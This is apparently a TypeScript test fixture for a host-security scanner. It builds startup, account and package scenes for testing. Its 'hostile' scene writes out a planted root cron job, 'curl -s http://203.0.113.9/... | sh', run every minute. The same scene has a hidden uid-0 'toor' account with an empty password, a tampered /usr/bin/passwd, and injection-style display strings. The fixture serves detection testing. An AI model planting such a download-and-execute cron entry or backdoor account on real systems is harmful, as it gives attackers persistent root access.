/** What starts by itself, accounts and packages of each scene. */
import type { PackageScan } from '../../src/desk/packages.ts';
import type { AccountScan, StartupScan } from '../../src/desk/startup.ts';
import type { Finding } from '../../src/findings/finding.ts';
import { HOSTILE } from './hostile-words.ts';
import { alteredFile, packageScan } from './packages.ts';
import { accountFacts, startupEntry, startupScan } from './startup.ts';
import { findingFrom } from './state.ts';

export interface StartupScene {
  readonly startup: StartupScan;
  readonly accounts: AccountScan;
  /** Null before the first comparison. */
  readonly packages: PackageScan | null;
  /** About some of it. */
  readonly findings?: readonly Finding[];
}

const PLANTED = '/etc/cron.d/.update';
const ALTERED = '/usr/bin/passwd';

const HOUR_MS = 3_600_000;
const DAY_MS = 24 * HOUR_MS;
const packaged = (name: string, version: string) => ({ kind: 'package', package: name, version }) as const;

const ROOT = accountFacts({
  ...{ name: 'root', uid: 0, gid: 0, home: '/root', groups: ['root'], keys: 0 },
  ...{ password: 'locked', login: [], rights: ['is root (uid 0)'], last: null },
});
const BOB = accountFacts({
  ...{ name: 'bob', uid: 1001, gid: 1001, home: '/home/bob', groups: ['bob'], keys: 0 },
  ...{ login: ['password'], rights: [], last: null },
});
const DAEMON = accountFacts({
  ...{
    name: 'www-data',
    uid: 33,
    gid: 33,
    home: '/var/www',
    shell: '/usr/sbin/nologin',
    groups: ['www-data'],
  },
  ...{ password: 'locked', passwordSetMs: null, keys: 0, login: [], rights: [], last: null },
});

function hostileFindings(nowMs: number): readonly Finding[] {
  const seen = {
    firstSeen: new Date(nowMs - HOUR_MS).toISOString(),
    lastSeen: new Date(nowMs).toISOString(),
  };
  return [
    findingFrom({
      ...{ ...seen, id: '5ca1ab1e5ca1ab1e', check: 'packaged-file', severity: 'high', scar: true },
      subject: { kind: 'file', path: ALTERED },
      summary: `${ALTERED} differs from package passwd 1:4.17.4-2`,
      evidence: { package: 'passwd', version: '1:4.17.4-2', md5_found: 'b'.repeat(32), files: 1 },
      remedy: 'compare it with the package, and install the package again if you did not change it',
    }),
    findingFrom({
      ...{ ...seen, id: 'f005ba11f005ba11', check: 'startup-entry', severity: 'medium', scar: true },
      subject: { kind: 'file', path: PLANTED, content: 'planted' },
      summary: `${PLANTED} (system crontab): "curl -s http://203.0.113.9/${HOSTILE.markup} | sh" as root, * * * * *; no package vouches for it`,
      evidence: { place: 'crontab', user: 'root', entry: 'planted' },
      remedy: 'check who put it there with desk startup --since, and remove it if it is not yours',
    }),
  ];
}

export function startupScene(
  name: 'empty' | 'healthy' | 'degraded' | 'hostile' | 'crowd',
  nowMs: number,
): StartupScene {
  const [readMs, installedMs] = [nowMs - 20_000, nowMs - 90 * DAY_MS];
  const usual = [
    startupEntry('systemd-unit', {
      path: '/usr/lib/systemd/system/nginx.service',
      runs: "/usr/sbin/nginx -g 'daemon on; master_process on;'",
      changedMs: installedMs,
      voucher: packaged('nginx', '1.26.3-3'),
    }),
    startupEntry('systemd-unit', {
      path: '/usr/lib/systemd/system/ssh.service',
      runs: '/usr/sbin/sshd -D $SSHD_OPTS',
      changedMs: installedMs,
      voucher: packaged('openssh-server', '1:10.0p1-7'),
    }),
    startupEntry('systemd-unit', {
      path: '/usr/lib/systemd/system/cron.service',
      runs: '/usr/sbin/cron -f $EXTRA_OPTS',
      changedMs: installedMs,
      voucher: packaged('cron', '3.0pl1-197'),
    }),
    startupEntry('cron-folder', {
      path: '/etc/cron.daily/logrotate',
      runs: '/etc/cron.daily/logrotate',
      changedMs: installedMs,
      voucher: packaged('logrotate', '3.22.0-1'),
    }),
  ];
  const own = [
    startupEntry('crontab', {
      path: '/etc/cron.d/backup',
      runs: '/usr/local/bin/backup-agent --all',
      when: '15 3 * * *',
      changedMs: nowMs - 40 * DAY_MS,
    }),
    startupEntry('user-crontab', {
      path: '/var/spool/cron/crontabs/ada',
      runs: '/home/ada/bin/sync-notes',
      when: '*/10 * * * *',
      user: 'ada',
      changedMs: nowMs - 3 * HOUR_MS,
    }),
    startupEntry('sudoers', {
      path: '/etc/sudoers',
      runs: 'ada ALL=(ALL:ALL) NOPASSWD: /usr/bin/systemctl',
      changedMs: nowMs - 12 * DAY_MS,
      voucher: {
        ...{ kind: 'changed', package: 'sudo', version: '1.9.16p2-3' },
        ...{ expected: 'b'.repeat(32), found: 'c'.repeat(32), configuration: true },
      },
    }),
    startupEntry('systemd-unit', {
      path: '/etc/systemd/system/multi-user.target.wants/nginx.service',
      runs: "/usr/sbin/nginx -g 'daemon on; master_process on;'",
      link: '/usr/lib/systemd/system/nginx.service',
      linked: 'own',
      changedMs: installedMs,
      voucher: packaged('nginx', '1.26.3-3'),
    }),
  ];
  const whole = startupScan({ entries: [...own, ...usual], files: 1_204, readMs });
  const accounts = { accounts: [ROOT, accountFacts(), BOB, DAEMON], groups: [], unread: [], container: '' };
  const intact = packageScan({ altered: [], endedMs: nowMs - 2 * HOUR_MS, packages: 412, files: 38_114 });
  switch (name) {
    case 'empty':
      return { startup: { ...whole, entries: usual }, accounts, packages: null };
    case 'healthy':
      return { startup: whole, accounts, packages: intact };
    case 'degraded':
      return {
        startup: {
          ...whole,
          unwatched: 'inotify has no watches left (ENOSPC)',
          unread: [
            { place: startupEntry('user-crontab').place, path: '/var/spool/cron/crontabs', reason: 'EACCES' },
            {
              place: startupEntry('home-profile').place,
              path: '/home/bob/.bashrc',
              reason: 'it does not answer',
            },
          ],
        },
        accounts: {
          groups: [],
          container: '',
          accounts: [
            ROOT,
            accountFacts({ password: 'unknown', login: ['password not known', '2 SSH keys'] }),
            { ...BOB, password: 'unknown', keys: null, login: ['password not known', 'SSH keys not known'] },
            DAEMON,
          ],
          unread: [
            { path: '/etc/shadow', reason: 'EACCES' },
            { path: '/var/log/wtmp', reason: 'it does not exist: last logins are not known' },
          ],
        },
        packages: { ...intact, unread: [{ path: '/usr/lib/firmware', reason: 'EACCES' }] },
      };
    case 'hostile':
      return {
        findings: hostileFindings(nowMs),
        startup: {
          ...whole,
          entries: [
            startupEntry('crontab', {
              path: PLANTED,
              runs: `curl -s http://203.0.113.9/${HOSTILE.markup} | sh`,
              when: '* * * * *',
              key: 'planted',
              changedMs: nowMs - HOUR_MS,
            }),
            startupEntry('home-profile', {
              path: `/home/${HOSTILE.rtl}/.bashrc`,
              runs: HOSTILE.everything,
              user: HOSTILE.zeroWidth,
              changedMs: nowMs - 2 * HOUR_MS,
            }),
            startupEntry('systemd-unit', {
              path: `/etc/systemd/system/${HOSTILE.attribute}`,
              runs: `/opt/${HOSTILE.long}`,
              name: HOSTILE.markup,
              changedMs: nowMs - 3 * HOUR_MS,
            }),
            ...whole.entries,
          ],
          unread: [
            {
              place: startupEntry('crontab').place,
              path: `/etc/${HOSTILE.terminal}`,
              reason: HOSTILE.script,
            },
          ],
        },
        accounts: {
          groups: [],
          container: '',
          accounts: [
            ROOT,
            accountFacts(),
            accountFacts({
              ...{ name: `toor${HOSTILE.zeroWidth}`, uid: 0, gid: 0, password: 'empty', keys: 0 },
              ...{
                login: ['no password is asked for'],
                rights: ['is root (uid 0)', `sudo: ${HOSTILE.everything}`],
              },
              last: { user: 'toor', line: 'pts/9', host: HOSTILE.markup, seconds: nowMs / 1000 - 600 },
            }),
            DAEMON,
          ],
          unread: [{ path: HOSTILE.rtl, reason: HOSTILE.markup }],
        },
        packages: {
          ...intact,
          altered: [
            alteredFile({
              path: ALTERED,
              package: 'passwd',
              version: '1:4.17.4-2',
              changedMs: nowMs - HOUR_MS,
            }),
            alteredFile({ path: `/usr/share/${HOSTILE.attribute}`, package: HOSTILE.rtl, program: false }),
          ],
        },
      };
    case 'crowd':
      return {
        startup: {
          ...whole,
          entries: [
            ...whole.entries,
            ...Array.from({ length: 400 }, (_, at) =>
              startupEntry('systemd-home-unit', {
                path: `/home/user${at}/.config/systemd/user/agent.service`,
                runs: `/home/user${at}/bin/agent`,
                user: `user${at}`,
                changedMs: nowMs - at * HOUR_MS,
              }),
            ),
          ],
        },
        accounts: {
          ...accounts,
          accounts: [
            ...accounts.accounts,
            ...Array.from({ length: 400 }, (_, at) => ({ ...BOB, name: `user${at}`, uid: 2_000 + at })),
          ],
        },
        packages: intact,
      };
  }
}
